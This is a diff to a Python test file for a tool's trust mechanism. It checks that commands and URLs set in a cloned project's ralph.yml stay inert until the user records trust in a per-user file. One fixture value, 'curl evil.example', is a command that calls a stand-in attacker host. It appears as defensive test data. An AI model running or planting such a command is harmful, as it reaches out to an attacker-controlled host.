@@ -35,13 +35,13 @@ def loaded(root: Path) -> Loaded:
 
 
 def trusting(root: Path) -> None:
-    trust.record(root, loaded(root).named, env_of(root))
+    trust.record(root, loaded(root).trusted_values, env_of(root))
 
 
 def test_a_cloned_project_runs_and_sends_nothing(project: Path) -> None:
     found = loaded(project)
     assert (found.config.summarize.command, found.config.embedding.url) == ("", "")
-    assert [(str(each.place), each.key, each.value, each.trusted) for each in found.named] == [
+    assert [(str(each.place), each.key, each.value, each.trusted) for each in found.trusted_values] == [
         ("ralph.yml:2", "summarize.command", "curl evil.example", False),
         ("ralph.yml:4", "embedding.url", "https://example.com/v1", False),
     ]
@@ -53,7 +53,7 @@ def test_a_cloned_project_runs_and_sends_nothing(project: Path) -> None:
 
 
 def test_what_was_trusted_counts_without_a_word(project: Path) -> None:
-    new = trust.record(project, loaded(project).named, env_of(project))
+    new = trust.record(project, loaded(project).trusted_values, env_of(project))
     assert [each.key for each in new] == ["summarize.command", "embedding.url"]
     found = loaded(project)
     assert (found.config.summarize.command, found.config.embedding.url) == (
@@ -61,7 +61,7 @@ def test_what_was_trusted_counts_without_a_word(project: Path) -> None:
         "https://example.com/v1",
     )
     assert found.warnings == ()
-    assert all(each.trusted for each in found.named)
+    assert all(each.trusted for each in found.trusted_values)
     assert str(found.origins["summarize.command"]) == "ralph.yml:2"
 
 
@@ -120,7 +120,7 @@ def test_where_ralph_records_is_never_a_projects_word(project: Path) -> None:
     (project / "ralph.yml").write_text("capture:\n  everywhere: true\n", encoding="utf-8")
     found = loaded(project)
     assert found.config.capture.everywhere is False
-    assert found.named == ()
+    assert found.trusted_values == ()
     assert found.warnings == (
         "ralph.yml:2: capture.everywhere is ignored here: a project must not decide this for its users",
     )
@@ -138,7 +138,7 @@ def test_the_trust_file_is_for_its_owner_alone_and_holds_no_value(project: Path)
 
 def test_xdg_config_home_is_where_it_is_kept(project: Path) -> None:
     env = {"XDG_CONFIG_HOME": str(project.parent / "xdg")}
-    trust.record(project, load(project, env=env).named, env)
+    trust.record(project, load(project, env=env).trusted_values, env)
     assert (project.parent / "xdg" / "ralph" / "trust.json").is_file()
     assert load(project, env=env).config.summarize.command == "curl evil.example"
     assert loaded(project).config.summarize.command == ""
@@ -165,7 +165,7 @@ def test_a_trust_file_that_is_not_ours_trusts_nothing_and_is_not_overwritten(pro
     found = loaded(project)
     assert found.config.summarize.command == ""
     with pytest.raises(Unreadable, match="is not a trust file"):
-        trust.record(project, found.named, env_of(project))
+        trust.record(project, found.trusted_values, env_of(project))
     assert file.read_text(encoding="utf-8") == text
     assert trust.list_(env_of(project)) == ()
 
@@ -174,4 +174,4 @@ def test_without_a_home_nothing_can_be_trusted(project: Path) -> None:
     assert trust.list_({}) == ()
     assert trust.revoke(project, {}) == 0
     with pytest.raises(UsageError, match="no folder"):
-        trust.record(project, load(project, env={}).named, {})
+        trust.record(project, load(project, env={}).trusted_values, {})
